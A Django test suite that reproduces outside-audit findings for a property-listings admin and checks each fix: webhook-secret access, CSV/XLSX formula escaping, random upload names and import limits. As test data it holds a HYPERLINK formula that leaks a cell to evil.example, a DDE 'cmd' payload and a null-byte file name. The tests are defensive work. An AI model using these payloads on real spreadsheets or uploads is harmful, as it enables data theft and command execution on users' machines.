"""Findings of the outside audit (issue 11) that concern listings: each test reproduces
one finding and shows it closed."""

import csv
import io
import re

import pytest
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook
from PIL import Image

from core.uploads import unguessable_name
from listings.models import Agent, LandParcel, Listing, ListingImage
from listings.resources import escape_formula
from tests import factories

pytestmark = pytest.mark.django_db

HOOK = "https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=TOKEN-OF-THE-OTHER-AGENT"
SECRET = "SEC-signing-secret-of-the-other-agent"


def staff_in(group, **agent_fields):
    user = factories.make_user(is_staff=True)
    user.groups.add(Group.objects.get(name=group))
    agent = factories.make_agent(user=user, **agent_fields) if group == "agents" else None
    return user, agent


def change_url(agent):
    return f"/admin/listings/agent/{agent.pk}/change/"


# ---- 1. webhook URLs and secrets: managers only; an agent sets their own, write-only ----


@pytest.mark.parametrize("group", ["agents", "editors"])
def test_staff_cannot_read_another_agents_webhook(client, group):
    other = factories.make_agent(webhook_kind="wecom", webhook_url=HOOK, webhook_secret=SECRET)
    user, _agent = staff_in(group)
    client.force_login(user)
    response = client.get(change_url(other))
    html = response.content.decode()
    assert response.status_code == 200
    assert other.name in html
    assert "TOKEN-OF-THE-OTHER-AGENT" not in html and SECRET not in html
    assert "已设置" in html
    assert (
        client.post(change_url(other), {"webhook_url": "https://evil.example/"}).status_code == 403
    )


def test_an_agent_sees_only_that_their_own_webhook_is_set_and_can_replace_it(client):
    user, agent = staff_in("agents", webhook_kind="wecom", webhook_url=HOOK, webhook_secret=SECRET)
    client.force_login(user)
    html = client.get(change_url(agent)).content.decode()
    assert "TOKEN-OF-THE-OTHER-AGENT" not in html and SECRET not in html
    assert 'type="password"' in html and "已设置" in html

    # Blank boxes keep what is stored.
    response = client.post(change_url(agent), {"webhook_kind": "wecom"})
    assert response.status_code == 302
    agent.refresh_from_db()
    assert agent.webhook_url == HOOK and agent.webhook_secret == SECRET

    new_hook = "https://oapi.dingtalk.com/robot/send?access_token=NEW"
    response = client.post(
        change_url(agent),
        {"webhook_kind": "dingtalk", "webhook_url": new_hook, "webhook_secret": "SECnew"},
    )
    assert response.status_code == 302
    agent.refresh_from_db()
    assert (agent.webhook_kind, agent.webhook_url, agent.webhook_secret) == (
        "dingtalk",
        new_hook,
        "SECnew",
    )

    client.post(change_url(agent), {"clear_webhook": "on"})
    agent.refresh_from_db()
    assert (agent.webhook_kind, agent.webhook_url, agent.webhook_secret) == ("", "", "")


def test_an_agent_cannot_change_anything_else_on_their_own_record(client):
    user, agent = staff_in("agents", name="顾问甲")
    client.force_login(user)
    client.post(
        change_url(agent),
        {"name": "改名", "is_active": "", "accepts_leads": "", "webhook_kind": ""},
    )
    agent.refresh_from_db()
    assert agent.name == "顾问甲" and agent.is_active and agent.accepts_leads


def test_a_manager_sees_and_edits_webhooks(client):
    other = factories.make_agent(webhook_kind="wecom", webhook_url=HOOK, webhook_secret=SECRET)
    manager, _ = staff_in("managers")
    client.force_login(manager)
    html = client.get(change_url(other)).content.decode()
    assert "TOKEN-OF-THE-OTHER-AGENT" in html and SECRET in html
    assert Agent.objects.get(pk=other.pk).webhook_secret == SECRET


# ---- 2. formula-looking text: stored as text on import, escaped on every export --------

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'


def csv_upload(text):

    return SimpleUploadedFile("rows.csv", text.encode("utf-8"), content_type="text/csv")


def format_index(client, model, label, action="import"):

    html = client.get(f"/admin/listings/{model}/{action}/").content.decode()
    options = re.findall(r'<option value="(\d+)"[^>]*>([^<]+)</option>', html)
    return next(value for value, text in options if text.strip().lower() == label)


def import_csv(client, model, text):
    response = client.post(
        f"/admin/listings/{model}/import/",
        {
            "import_file": csv_upload(text),
            "format": format_index(client, model, "csv"),
            "resource": "0",
        },
    )
    assert response.context["confirm_form"] is not None, response.content.decode()[:2000]
    client.post(
        f"/admin/listings/{model}/process_import/", response.context["confirm_form"].initial
    )


def export(client, model, label):
    response = client.get(f"/admin/listings/{model}/export/")
    form = response.context["form"]
    data = {"format": format_index(client, model, label, "export"), "resource": "0"}
    wanted = tuple(f"_{name}" for name in ("code", "title", "location"))
    for name in form.fields:
        if name.endswith(wanted):
            data[name] = "on"
    response = client.post(f"/admin/listings/{model}/export/", data)
    assert response.status_code == 200, response.content.decode()[:2000]
    return response.content


ROWS = {
    "listing": (
        "code,title,kind,deal,building_area,rent_price\nF-1,{},factory,rent,900,1.1\n",
        "title",
    ),
    "landparcel": (
        "code,location,town,land_use,area,starting_price,method,bidding_opens_at,bidding_closes_at\n"
        "YF-19-001,{},永丰街道,工业用地,11875.3,1104,挂牌,2030-03-20 09:00,2030-03-30 15:00\n",
        "location",
    ),
}


@pytest.mark.parametrize("model", ["listing", "landparcel"])
def test_formula_text_is_imported_as_text_and_exported_escaped(client, model):

    manager, _ = staff_in("managers")
    client.force_login(manager)
    template, field = ROWS[model]
    quoted = '"' + EVIL.replace('"', '""') + '"'
    import_csv(client, model, template.format(quoted))
    Model = Listing if model == "listing" else LandParcel
    assert getattr(Model.objects.get(), field) == EVIL  # stored as the text it is

    rows = list(csv.reader(io.StringIO(export(client, model, "csv").decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + EVIL in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)

    sheet = load_workbook(io.BytesIO(export(client, model, "xlsx"))).active
    values = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    assert "'" + EVIL in [cell.value for cell in values]
    assert all(cell.data_type != "f" for cell in values)  # no live formula

    # The escaped export imports back to the same text.
    Model.objects.all().delete()
    import_csv(client, model, template.format("\"'" + EVIL.replace('"', '""') + '"'))
    assert getattr(Model.objects.get(), field) == EVIL


@pytest.mark.parametrize("text", ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_prefix_is_escaped(text):

    assert escape_formula(text) == "'" + text
    assert escape_formula("-12.5") == "-12.5" and escape_formula("新桥") == "新桥"


# ---- 6. unguessable stored names; a draft's picture is not revealed --------------------


def jpeg(name):

    out = io.BytesIO()
    Image.new("RGB", (40, 30), "red").save(out, "JPEG")
    return SimpleUploadedFile(name, out.getvalue(), content_type="image/jpeg")


def test_a_draft_listings_picture_is_not_served_under_its_name_nor_shown(client, settings):

    # Outside production the site serves var/media itself, as the audit saw it.
    draft = factories.make_listing(
        status=Listing.Status.DRAFT, published_at=None, title="草稿厂房", code="D-1"
    )
    picture = ListingImage.objects.create(listing=draft, image=jpeg("draft_secret_plan.jpg"))
    stored = picture.image.name
    assert "draft_secret_plan" not in stored
    assert re.fullmatch(r"listings/[0-9a-f]{32}\.jpg", stored)
    assert client.get("/media/listings/draft_secret_plan.jpg").status_code == 404
    assert client.get(f"/listings/{draft.pk}/").status_code == 404

    stem = stored.split("/")[1].split(".")[0]
    for path in ("/listings/", "/search/?q=草稿厂房", "/sitemap.xml", "/"):
        assert stem not in client.get(path).content.decode(), path

    # Published, the listing shows its picture (through a thumbnail of a hashed name).
    Listing.objects.filter(pk=draft.pk).update(
        status=Listing.Status.AVAILABLE, published_at=draft.created_at
    )
    html = client.get(f"/listings/{draft.pk}/").content.decode()
    assert "/media/thumbnails/" in html or stem in html


def test_every_upload_gets_a_fresh_random_name():

    names = {unguessable_name("plan.JPG") for _ in range(50)}
    assert len(names) == 50
    assert all(re.fullmatch(r"[0-9a-f]{32}\.jpg", n) for n in names)
    assert unguessable_name("x.php%00.jpg.exe<>").endswith(".bin")


# ---- 7. import limits; a large import in few queries -----------------------------------


def listing_rows(count, start=0):
    lines = ["编号,标题,类型,交易方式,状态,镇,面积,租金,承重,可环评"]
    for n in range(start, start + count):
        lines.append(f"B-{n:05d},批量厂房{n},厂房,出租,可租售,新桥镇,{1000 + n},1.2,2000,是")
    return "\n".join(lines) + "\n"


def test_an_import_over_the_size_limit_is_refused_with_a_message(client, settings):

    settings.IMPORT_MAX_BYTES = 2048
    manager, _ = staff_in("managers")
    client.force_login(manager)
    text = listing_rows(60)
    assert len(text.encode()) > 2048
    response = client.post(
        "/admin/listings/listing/import/",
        {"import_file": csv_upload(text), "format": format_index(client, "listing", "csv")},
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert "文件过大（" in html and "一次最多导入 2.0" in html
    assert not Listing.objects.exists()


def test_an_import_over_the_row_limit_is_refused_with_a_message(client, settings):

    settings.IMPORT_MAX_ROWS = 5
    manager, _ = staff_in("managers")
    client.force_login(manager)
    response = client.post(
        "/admin/listings/listing/import/",
        {
            "import_file": csv_upload(listing_rows(6)),
            "format": format_index(client, "listing", "csv"),
        },
    )
    html = response.content.decode()
    assert "文件有 6 行：一次最多导入 5 行" in html
    assert not Listing.objects.exists()


def test_a_large_import_takes_a_few_queries_not_some_per_row(client, django_assert_max_num_queries):

    manager, _ = staff_in("managers")
    client.force_login(manager)
    fmt = format_index(client, "listing", "csv")
    factories.make_listing(code="B-00000", title="旧")  # one row is an update
    with django_assert_max_num_queries(40):
        preview = client.post(
            "/admin/listings/listing/import/",
            {"import_file": csv_upload(listing_rows(600)), "format": fmt},
        )
    html = preview.content.decode()
    assert "将新建 599 行，更新 1 行" in html and "下表只列出前 100 行" in html
    with django_assert_max_num_queries(40):
        client.post(
            "/admin/listings/listing/process_import/", preview.context["confirm_form"].initial
        )
    assert Listing.objects.filter(code__startswith="B-").count() == 600
    updated = Listing.objects.get(code="B-00000")
    assert updated.title == "批量厂房0"
    # Written in batches, the rows are still found by the site search.
    assert Listing.objects.filter(code="B-00599", search_vector__isnull=False).exists()


def test_repeated_codes_in_a_file_are_named(client):
    manager, _ = staff_in("managers")
    client.force_login(manager)
    text = listing_rows(3) + "b-00001,重复,厂房,出租,可租售,新桥镇,1000,1.2,2000,是\n"
    response = client.post(
        "/admin/listings/listing/import/",
        {"import_file": csv_upload(text), "format": format_index(client, "listing", "csv")},
    )
    assert "编号在文件中重复：B-00001" in response.content.decode()


def test_an_import_still_refuses_rows_that_break_a_constraint(client):

    manager, _ = staff_in("managers")
    client.force_login(manager)
    text = "code,title,kind,deal,building_area,min_divisible_area,rent_price\nC-1,x,factory,rent,100,500,1\n"
    response = client.post(
        "/admin/listings/listing/import/",
        {"import_file": csv_upload(text), "format": format_index(client, "listing", "csv")},
    )
    assert response.context["result"].has_validation_errors()
    assert not Listing.objects.exists()
